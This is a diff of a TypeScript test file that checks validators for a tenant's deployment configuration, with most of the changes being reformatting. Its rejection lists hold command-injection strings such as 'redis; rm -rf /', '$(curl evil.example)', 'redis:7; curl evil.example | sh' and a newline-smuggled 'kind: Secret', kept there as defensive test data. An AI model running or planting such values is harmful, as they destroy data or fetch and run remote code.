@@ -4,7 +4,15 @@
  * tenant rules keep custom domains out of the platform domain and upstream names unique.
  */
 import { describe, expect, it } from "vitest";
-import { amqpUriProblem, httpUrlProblem, isDnsSubdomain, isHost, isOciReference, isOciRepository, isOidcIssuer } from "../stacks/fieldRules";
+import {
+  amqpUriProblem,
+  httpUrlProblem,
+  isDnsSubdomain,
+  isHost,
+  isOciReference,
+  isOciRepository,
+  isOidcIssuer,
+} from "../stacks/fieldRules";
 import { parseTenantConfig, parseTenantRequest } from "../stacks/config";
 import { DEV_ADMIN_CREDENTIALS, DEV_CLOUDFLARE } from "../synth/programs";
 import { TenantRequestError, type Problem } from "../tiers";
@@ -24,7 +32,18 @@ describe("field shapes", () => {
   });
 
   it("refuses shell text, schemes, uppercase repositories and empty tags as image references", () => {
-    for (const ref of ["", "redis; rm -rf /", "$(curl evil.example)", "redis:7 && sh", "https://registry.example.com/redis", "Redis:7", "redis:", "redis:7\n", "redis@sha256:abc", `${"a/".repeat(128)}a`]) {
+    for (const ref of [
+      "",
+      "redis; rm -rf /",
+      "$(curl evil.example)",
+      "redis:7 && sh",
+      "https://registry.example.com/redis",
+      "Redis:7",
+      "redis:",
+      "redis:7\n",
+      "redis@sha256:abc",
+      `${"a/".repeat(128)}a`,
+    ]) {
       expect(isOciReference(ref), JSON.stringify(ref)).toBe(false);
     }
   });
@@ -32,16 +51,42 @@ describe("field shapes", () => {
   it("takes an image repository without tag, since images are <repository>/<service>:<tag>", () => {
     expect(isOciRepository("registry.collect-verything.com/e-commerce")).toBe(true);
     expect(isOciRepository("localhost:5000/cv")).toBe(true);
-    for (const bad of ["registry.example.com/cv:1.0", "registry.example.com/cv/", "registry.example.com//cv", "registry.example.com/cv`id`", "::://", "registry.example.com/CV"]) {
+    for (const bad of [
+      "registry.example.com/cv:1.0",
+      "registry.example.com/cv/",
+      "registry.example.com//cv",
+      "registry.example.com/cv`id`",
+      "::://",
+      "registry.example.com/CV",
+    ]) {
       expect(isOciRepository(bad), bad).toBe(false);
     }
   });
 
   it("takes host names (also single-label cluster names) and IP addresses as hosts", () => {
-    for (const host of ["redis", "mysql.mysql.svc.cluster.local", "10.0.0.12", "fd00::12"]) expect(isHost(host), host).toBe(true);
-    for (const host of ["", "redis:6379", "http://redis", "999.1.1.1", "redis\n", "my_host", "-redis", "Redis.svc", "a b"]) expect(isHost(host), JSON.stringify(host)).toBe(false);
+    for (const host of ["redis", "mysql.mysql.svc.cluster.local", "10.0.0.12", "fd00::12"])
+      expect(isHost(host), host).toBe(true);
+    for (const host of [
+      "",
+      "redis:6379",
+      "http://redis",
+      "999.1.1.1",
+      "redis\n",
+      "my_host",
+      "-redis",
+      "Redis.svc",
+      "a b",
+    ])
+      expect(isHost(host), JSON.stringify(host)).toBe(false);
     expect(isOidcIssuer("oidc.eks.eu-west-3.amazonaws.com/id/EXAMPLED539D4633E53DE1B7")).toBe(true);
-    for (const issuer of ["https://oidc.eks.eu-west-3.amazonaws.com/id/X", "oidc.eks.amazonaws.com/id/X\"", "oidc.eks.amazonaws.com//X", "oidc eks/id", ""]) expect(isOidcIssuer(issuer), issuer).toBe(false);
+    for (const issuer of [
+      "https://oidc.eks.eu-west-3.amazonaws.com/id/X",
+      'oidc.eks.amazonaws.com/id/X"',
+      "oidc.eks.amazonaws.com//X",
+      "oidc eks/id",
+      "",
+    ])
+      expect(isOidcIssuer(issuer), issuer).toBe(false);
   });
 
   it("takes http(s) URLs of a host without credentials as service URLs", () => {
@@ -59,7 +104,13 @@ describe("field shapes", () => {
   it("takes amqp(s) URIs with credentials, vhost and query as federation URIs", () => {
     expect(amqpUriProblem("amqps://fed:secret@us.example.com:5671/%2f?heartbeat=10")).toBeUndefined();
     expect(amqpUriProblem("amqp://10.1.2.3")).toBeUndefined();
-    for (const bad of ["http://us.example.com", "amqps://", "amqps://us example.com", "amqps://us.example.com\n", "amqps://u:p@/vhost"]) {
+    for (const bad of [
+      "http://us.example.com",
+      "amqps://",
+      "amqps://us example.com",
+      "amqps://us.example.com\n",
+      "amqps://u:p@/vhost",
+    ]) {
       expect(amqpUriProblem(bad), JSON.stringify(bad)).toBeDefined();
     }
   });
@@ -67,7 +118,8 @@ describe("field shapes", () => {
   it("takes lowercase DNS subdomains as ingress class and listener names", () => {
     expect(isDnsSubdomain("nginx")).toBe(true);
     expect(isDnsSubdomain("https.shops")).toBe(true);
-    for (const bad of ["", "HTTPS", "https\n", "nginx;", "-nginx", `${"a".repeat(254)}`]) expect(isDnsSubdomain(bad), JSON.stringify(bad)).toBe(false);
+    for (const bad of ["", "HTTPS", "https\n", "nginx;", "-nginx", `${"a".repeat(254)}`])
+      expect(isDnsSubdomain(bad), JSON.stringify(bad)).toBe(false);
   });
 });
 
@@ -96,7 +148,10 @@ describe("tenant config (item 7)", () => {
         ...BASE,
         sites: [{ customDomains: ["shop.acme.example", "collect-verything.com.acme.example"] }],
         images: { ...BASE.images, redis: "registry.example.com/mirror/redis:7.4-alpine" },
-        routing: { mode: "gateway-api", gateway: { name: "edge", namespace: "gateway-system", sectionName: "https" } },
+        routing: {
+          mode: "gateway-api",
+          gateway: { name: "edge", namespace: "gateway-system", sectionName: "https" },
+        },
         dataServices: {
           mysqlReadReplicaHost: "10.0.4.2",
           federationUpstreams: [
@@ -116,14 +171,19 @@ describe("tenant config (item 7)", () => {
     ["a name deeper under the platform domain", "a.b.shops.collect-verything.com"],
   ])("refuses %s as a custom domain", (_what, domain) => {
     expect(problemsOf({ ...BASE, sites: [{ customDomains: [domain] }] })).toEqual([
-      { field: "sites[0].customDomains[0]", message: expect.stringMatching(/under the platform domain "shops\.collect-verything\.com"/) },
+      {
+        field: "sites[0].customDomains[0]",
+        message: expect.stringMatching(/under the platform domain "shops\.collect-verything\.com"/),
+      },
     ]);
   });
 
   it("checks custom domains against the stack's own platform domain", () => {
     const sites = [{ customDomains: ["acme.shops.example.net"] }];
     expect(problemsOf({ ...BASE, sites })).toEqual([]);
-    expect(problemsOf({ ...BASE, sites, platform: { domain: "shops.example.net" } }).map((p) => p.field)).toEqual(["sites[0].customDomains[0]"]);
+    expect(
+      problemsOf({ ...BASE, sites, platform: { domain: "shops.example.net" } }).map((p) => p.field),
+    ).toEqual(["sites[0].customDomains[0]"]);
   });
 
   it("refuses two federation upstreams of the same name, naming the second", () => {
@@ -132,20 +192,47 @@ describe("tenant config (item 7)", () => {
       { name: "us", uri: "amqps://fed:pw@us2.example.com" },
     ];
     expect(problemsOf({ ...BASE, dataServices: { federationUpstreams: upstreams } })).toEqual([
-      { field: "dataServices.federationUpstreams[1].name", message: '"us" is already the name of federationUpstreams[0]' },
+      {
+        field: "dataServices.federationUpstreams[1].name",
+        message: '"us" is already the name of federationUpstreams[0]',
+      },
     ]);
   });
 
   it.each([
-    ["routing.gateway.name", { routing: { mode: "gateway-api", gateway: { name: "gw\nkind: Secret", namespace: "gateway-system" } } }],
-    ["routing.gateway.sectionName", { routing: { mode: "gateway-api", gateway: { name: "gw", namespace: "gateway-system", sectionName: "https\n" } } }],
+    [
+      "routing.gateway.name",
+      {
+        routing: { mode: "gateway-api", gateway: { name: "gw\nkind: Secret", namespace: "gateway-system" } },
+      },
+    ],
+    [
+      "routing.gateway.sectionName",
+      {
+        routing: {
+          mode: "gateway-api",
+          gateway: { name: "gw", namespace: "gateway-system", sectionName: "https\n" },
+        },
+      },
+    ],
     ["routing.ingressClassName", { routing: { mode: "ingress-nginx", ingressClassName: "nginx --dry-run" } }],
     ["images.redis", { images: { ...BASE.images, redis: "redis:7; curl evil.example | sh" } }],
     ["images.registry", { images: { ...BASE.images, registry: "registry.example.com/cv; id" } }],
     ["dataServices.mysqlReadReplicaHost", { dataServices: { mysqlReadReplicaHost: "replica:3306" } }],
     ["platform.prometheusUrl", { platform: { prometheusUrl: "file:///var/run/secrets" } }],
-    ["adminCredentials.rabbitmq.managementUrl", { adminCredentials: { ...DEV_ADMIN_CREDENTIALS, rabbitmq: { ...DEV_ADMIN_CREDENTIALS.rabbitmq, managementUrl: "http://guest:guest@rabbitmq:15672" } } }],
-    ["adminCredentials.mysql.user", { adminCredentials: { ...DEV_ADMIN_CREDENTIALS, mysql: { user: "root\n", password: "" } } }],
+    [
+      "adminCredentials.rabbitmq.managementUrl",
+      {
+        adminCredentials: {
+          ...DEV_ADMIN_CREDENTIALS,
+          rabbitmq: { ...DEV_ADMIN_CREDENTIALS.rabbitmq, managementUrl: "http://guest:guest@rabbitmq:15672" },
+        },
+      },
+    ],
+    [
+      "adminCredentials.mysql.user",
+      { adminCredentials: { ...DEV_ADMIN_CREDENTIALS, mysql: { user: "root\n", password: "" } } },
+    ],
   ])("refuses a malformed %s", (field, overrides) => {
     expect(problemsOf({ ...BASE, ...overrides }).map((p) => p.field)).toEqual([field]);
   });
